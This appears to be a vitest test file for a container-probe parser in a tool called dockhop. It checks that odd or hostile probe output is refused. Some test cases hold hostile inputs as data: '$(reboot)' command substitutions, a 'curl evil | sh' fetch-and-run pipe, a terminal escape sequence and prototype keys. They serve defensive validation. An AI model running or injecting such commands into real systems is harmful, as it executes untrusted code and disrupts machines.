import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseContainerFacts } from '../../../../../src/core/container/look/containerFacts.ts';
import { DockhopError } from '../../../../../src/core/errors/dockhopError.ts';
import { probeAnswer } from '../probeAnswer.ts';

const invalid = expect.objectContaining({ code: 'CONTAINER_ANSWER_INVALID' }) as unknown;

describe('what the probe answers', () => {
  it('is read into facts', () => {
    const facts = parseContainerFacts('box', probeAnswer());
    expect(facts).toMatchObject({
      account: { name: 'dev', uid: 1000, home: '/home/dev', shell: '/bin/bash', locked: true },
      capabilities: 0xa80425fbn,
      sshd: { path: '/usr/sbin/sshd', version: { major: 9, minor: 2, text: 'OpenSSH_9.2p1' } },
      bases: ['/etc/dockhop', '/run/dockhop'],
      tools: ['bash', 'tar'],
      libc: 'glibc 2.36',
    });
    expect(facts.managers.map(({ name }) => name)).toEqual(['apt-get']);
  });

  it('may say that there is neither account nor server', () => {
    const without = probeAnswer({
      ...{ name: [], uid: [], home: [], shell: [], locked: [], homeExists: [], shellRuns: [] },
      ...{ sshd: [], version: [] },
    });
    expect(parseContainerFacts('box', without)).toMatchObject({
      account: undefined,
      sshd: undefined,
    });
  });

  it.each([
    ['a server that is in none of our places', { sshd: ['/tmp/$(reboot)'] }],
    ['a base that was not asked about', { base: ['/home/dev/.dockhop'] }],
    ['two users', { name: ['dev', 'root'] }],
    ['a uid that is none', { uid: ['0x0'] }],
    ['the uid of nobody', { uid: ['4294967295'] }],
    ['a home that draws on a terminal', { home: ['/home/\u001b[31mdev'] }],
    ['a home that is relative', { home: ['home'] }],
    ['a key that nobody asked for', { constructor: ['yes'] }],
    ['another one', { toString: ['yes'] }],
    ['capabilities that are not hexadecimal', { capabilities: ['ffffg'] }],
    ['a manager that we do not know', { manager: ['curl evil | sh'] }],
    ['more lines than there can be', { tool: Array.from({ length: 100 }, () => 'bash') }],
    ['an end that is missing', { end: [] }],
  ])('is refused with %s', (_, change) => {
    expect(() => parseContainerFacts('box', probeAnswer(change))).toThrow(invalid);
  });

  it('is not read where its server says something odd of its version', () => {
    const facts = parseContainerFacts('box', probeAnswer({ version: ['$(reboot)'] }));
    expect(facts.sshd).toEqual({ path: '/usr/sbin/sshd', version: undefined });
  });

  it('is read or refused, whatever it is', () => {
    const anything = fc.array(fc.nat(0x2fff)).map((codes) => String.fromCharCode(...codes));
    const lines = fc.array(fc.oneof(fc.constantFrom(...probeAnswer().split('\n')), anything));
    fc.assert(
      fc.property(lines, (some) => {
        try {
          parseContainerFacts('box', some.join('\n'));
        } catch (error) {
          if (!(error instanceof DockhopError)) throw error;
          expect(error.code).toBe('CONTAINER_ANSWER_INVALID');
        }
      }),
    );
  });
});
